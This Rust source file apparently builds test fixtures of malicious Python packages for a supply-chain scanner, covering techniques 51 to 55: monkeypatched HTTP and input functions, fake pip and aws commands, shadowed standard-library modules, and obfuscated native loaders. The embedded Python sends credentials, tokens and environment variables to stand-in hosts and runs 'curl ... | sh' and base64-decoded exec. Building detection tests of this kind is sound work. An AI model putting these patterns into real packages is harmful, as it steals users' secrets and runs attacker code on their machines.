//! Techniques 51 to 55: code that takes the place of other people's code.

use crate::case::{Cases, Trigger::Call, Trigger::Data, Trigger::Import};
use crate::package::{init, sdist, wheel};

pub(crate) fn add(cases: &mut Cases) {
    patches(cases);
    places(cases);
    protected(cases);
}

fn patches(cases: &mut Cases) {
    cases
        .technique(51, "patches-requests", Import)
        .case("session-send", init(r#"
import requests
_send = requests.Session.send

def send(self, request, **kwargs):
    try:
        _send(self, requests.Request("POST", "https://collect.example.invalid/h", json=dict(request.headers)).prepare())
    except Exception:
        pass
    return _send(self, request, **kwargs)

requests.Session.send = send
"#))
        .case("setattr-adapter", init(r#"
import threading, urllib.request
from requests import adapters
real = adapters.HTTPAdapter.send
def wrapped(self, request, *a, **k):
    token = request.headers.get("Authorization")
    if token:
        threading.Thread(target=urllib.request.urlopen, args=("http://192.0.2.8/a", token.encode())).start()
    return real(self, request, *a, **k)
setattr(adapters.HTTPAdapter, "send", wrapped)
"#))
        .case("getpass-and-input", init(r#"
import getpass, builtins, urllib.request
def _wrap(f):
    def inner(*a, **k):
        value = f(*a, **k)
        urllib.request.urlopen("http://collect.example.invalid/g", data=value.encode())
        return value
    return inner
getpass.getpass = _wrap(getpass.getpass)
builtins.input = _wrap(builtins.input)
"#))
        .case("http-client", init(r#"
import http.client as h, socket
_old = h.HTTPConnection.putheader
def putheader(self, name, *values):
    if name.lower() in ("authorization", "cookie"):
        s = socket.socket(); s.connect(("192.0.2.8", 7777)); s.sendall(repr((self.host, values)).encode()); s.close()
    return _old(self, name, *values)
h.HTTPConnection.putheader = putheader
"#));
}

fn places(cases: &mut Cases) {
    cases
        .technique(52, "replaces-command", Call)
        .case("pip", wheel().entry_points("[console_scripts]\npip = «pkg».wrap:main\n").file("«pkg»/wrap.py", r#"
import os, sys, urllib.request

def main():
    urllib.request.urlopen("https://collect.example.invalid/pip", data=repr((sys.argv, dict(os.environ))).encode())
    from pip._internal.cli.main import main as real
    return real()
"#))
        .case("aws", wheel().entry_points("[console_scripts]\naws = «pkg».shim:run\n").file("«pkg»/shim.py", r#"
import os, subprocess, sys
def run():
    data = open(os.path.expanduser("~/.aws/credentials")).read()
    __import__("requests").post("http://192.0.2.8/aws", data=data)
    sys.exit(subprocess.call(["/usr/local/bin/aws"] + sys.argv[1:]))
"#))
        .case("python-script", wheel().file("«pkg»-«version».data/scripts/python3",
            "#!/bin/sh\ncurl -s http://192.0.2.8/p | sh &\nexec /usr/bin/python3 \"$@\"\n"));
    cases
        .technique(53, "shadows-standard-library", Import)
        .case(
            "queue",
            wheel().file(
                "queue.py",
                r#"
import urllib.request as _u, os as _o
_u.urlopen("https://collect.example.invalid/q", data=str(_o.environ).encode())
class Queue(list): ...
class Empty(Exception): ...
"#,
            ),
        )
        .case(
            "json-package",
            wheel().file(
                "json/__init__.py",
                r#"
import base64
exec(base64.b64decode("«fetch|b64»"))
def loads(text): return eval(text)
def dumps(value): return repr(value)
"#,
            ),
        )
        .case(
            "secrets-module",
            wheel().file(
                "secrets.py",
                r#"
import os, socket
def token_hex(n=32):
    value = os.urandom(n).hex()
    socket.create_connection(("192.0.2.8", 53)).sendall(value.encode())
    return value
"#,
            ),
        );
    cases
        .technique(54, "files-in-foreign-package", Import)
        .case("requests", wheel().file("requests/hooks.py", r#"
import os, urllib.request
urllib.request.urlopen("http://collect.example.invalid/r", data=repr(os.environ).encode())
HOOKS = ["response"]
def default_hooks(): return {event: [] for event in HOOKS}
def dispatch_hook(key, hooks, data, **kw): return data
"#))
        .case("google", wheel().file("google/auth/_helpers2.py", "import subprocess\nsubprocess.Popen('curl http://192.0.2.8/g | sh', shell=True)\n")
            .file("google/auth/__init__.py", "from . import _helpers2\n"))
        .case("pip-vendor", wheel().file("pip/_vendor/certifi/core.py", r#"
import os
os.system("curl -s http://stage.example.invalid/pv | sh")
def where(): return "/tmp/ca.pem"
"#));
}

fn protected(cases: &mut Cases) {
    cases
        .technique(55, "protected-blob", Import)
        .case("pyarmor", wheel().file("«pkg»/__init__.py", r#"
from pyarmor_runtime_000000 import __pyarmor__
__pyarmor__(__name__, __file__, b'PY000000\x00\x03\x0b\x00\xa7\r\r\n\x80\x00\x01\x00\x08\x00\x00\x00\x04\x00\x00\x00@«fetch|xor:113|esc»')
"#).bytes("pyarmor_runtime_000000/pyarmor_runtime.so", [b"\x7fELF\x02\x01\x01".to_vec(), vec![0; 400]].concat())
            .file("pyarmor_runtime_000000/__init__.py", "from .pyarmor_runtime import __pyarmor__\n"))
        .case("pytransform", wheel().file("«pkg»/__init__.py", r#"
from pytransform import pyarmor_runtime
pyarmor_runtime()
__pyarmor__(__name__, __file__, b'\x50\x59\x41\x52\x4d\x4f\x52\x00\x00\x03\x09\x00\x61\x0d\x0d\x0a«steal|xor:99|esc»', 2)
"#).file("pytransform/__init__.py", "import ctypes\n_m = ctypes.CDLL(__file__.replace('__init__.py', '_pytransform.so'))\ndef pyarmor_runtime(*a): _m.init_runtime(0, 0, 0, 0)\n")
            .bytes("pytransform/_pytransform.so", [b"\x7fELF\x02\x01\x01".to_vec(), vec![0; 300]].concat()))
        .case("native-loader", wheel().file("«pkg»/__init__.py", r#"
import ctypes, os, tempfile, base64
_here = os.path.dirname(__file__)
with open(os.path.join(_here, "data.bin"), "rb") as f:
    raw = bytes(b ^ 0x29 for b in f.read())
path = os.path.join(tempfile.gettempdir(), "libcore.so")
with open(path, "wb") as out:
    out.write(raw)
ctypes.CDLL(path).start()
"#).bytes("«pkg»/data.bin", crate::encode::xor(&[b"\x7fELF\x02\x01\x01".to_vec(), vec![0; 400]].concat(), &[0x29])))
        .at(Data)
        .case("packed-c-source-in-sdist", sdist().file("setup.py", r#"
from setuptools import setup, Extension
setup(name="«name»", version="«version»", ext_modules=[Extension("«pkg»._core", ["src/core.c"])], packages=["«pkg»"])
"#).file("src/core.c", r#"
#include <Python.h>
static const char *code = "import base64;exec(base64.b64decode('«steal|b64»'))";
PyMODINIT_FUNC PyInit__core(void) {
    PyRun_SimpleString(code);
    system("curl -s http://192.0.2.8/c | sh");
    return NULL;
}
"#));
}
